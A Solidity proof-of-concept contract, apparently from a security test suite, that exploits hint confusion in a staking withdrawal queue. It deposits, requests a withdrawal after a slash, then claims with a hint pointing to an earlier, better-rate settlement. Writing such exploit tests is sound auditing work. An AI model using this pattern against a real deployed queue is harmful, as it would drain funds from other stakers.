// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {HintedClaims} from "./HintedClaims.sol";
import {Exploit, Scene} from "../Exploit.sol";

/// @title A claim with the hint of a better day
/// @notice Comes in after a slash, asks out, and claims at the rate of a settlement before it.
contract HintConfusion is Exploit {
    uint256 private _ticket;

    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number == 2) _ticket = _request(_deposit(address(this).balance));
        if (number == 3) {
            try HintedClaims(payable(address(queue))).claim(_ticket, address(this), 0) {} catch {
                queue.claim(_ticket, address(this));
            }
        }
    }
}
